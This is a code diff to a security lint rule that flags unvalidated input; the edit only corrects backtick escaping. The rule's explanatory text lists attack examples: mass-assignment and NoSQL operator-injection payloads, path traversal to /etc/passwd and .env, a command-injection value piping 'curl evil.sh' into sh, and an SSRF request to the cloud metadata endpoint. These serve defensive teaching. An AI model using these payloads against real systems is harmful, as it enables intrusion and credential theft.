@@ -27,7 +27,7 @@ export const unvalidatedInput = createRule({
       '- **Mass assignment.** `prisma.user.update({ where: { id }, data: req.body })` stores every key the caller adds: `{"role": "admin"}`, `{"emailVerified": true}`, `{"balance": 1e9}`.',
       '- **Operator injection.** JSON and query strings (`?email[$ne]=`) carry objects. `User.findOne({ email: req.body.email, password: hash })` with `{"email": {"$ne": null}}` is "any user": a login as the first account, or `{"$regex": "^a"}` to enumerate them.',
       '- **Path traversal.** `fs.readFile(path.join(UPLOADS, req.params.name))` with `name = ../../etc/passwd` (or `../.env`) reads outside the folder; a write there replaces code.',
-      '- **Command injection.** `exec(`convert ${req.query.file} out.png`)` with `file = x; curl evil.sh | sh` runs the caller\'s command.',
+      '- **Command injection.** `` exec(`convert ${req.query.file} out.png`) `` with `file = x; curl evil.sh | sh` runs the caller\'s command.',
       '- **SSRF.** `fetch(req.query.url)` lets the caller make the server request `http://169.254.169.254/` (cloud credentials) or internal admin endpoints.',
     ].join('\n'),
     shortFix: [
